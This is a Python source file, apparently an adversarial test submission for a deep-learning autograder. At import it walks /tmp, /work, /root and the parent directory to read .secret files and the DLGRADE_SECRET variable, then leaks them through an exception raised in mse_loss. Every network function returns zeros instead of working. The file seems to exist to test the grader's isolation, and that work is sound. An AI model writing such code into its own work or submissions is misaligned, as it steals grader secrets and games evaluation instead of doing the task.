"""Adversarial: look for the output folder's .secret and DLGRADE_SECRET and leak them"""
import os

import torch


_S = [os.environ.get("DLGRADE_SECRET", "")]
for _root in ("/tmp", "/work", "/root", ".."):
    for _d, _dirs, _files in os.walk(_root):
        if ".secret" in _files:
            try:
                with open(os.path.join(_d, ".secret")) as _f:
                    _S.append(_f.read())
            except OSError:
                pass
_LEAK = "|".join(s for s in _S if s)

def _z(*shape_like):
    return torch.zeros(1, dtype=torch.float64)


def linear_forward(x, w, b):
    return torch.zeros(x.shape[0], w.shape[1], dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return torch.zeros_like(x), torch.zeros_like(w), torch.zeros(w.shape[1], dtype=w.dtype)


def relu_forward(x):
    return torch.zeros_like(x), x


def relu_backward(dout, cache):
    return torch.zeros_like(dout)


def sigmoid_forward(x):
    return torch.zeros_like(x), x


def sigmoid_backward(dout, cache):
    return torch.zeros_like(dout)


def softmax_cross_entropy(logits, y):
    return torch.zeros((), dtype=logits.dtype), torch.zeros_like(logits)


def mse_loss(pred, target):
    if _LEAK:
        raise RuntimeError('LEAK ' + _LEAK)
    return torch.zeros((), dtype=pred.dtype), torch.zeros_like(pred)


def mlp_loss(params, x, y):
    return torch.zeros((), dtype=x.dtype), {k: torch.zeros_like(v) for k, v in params.items()}
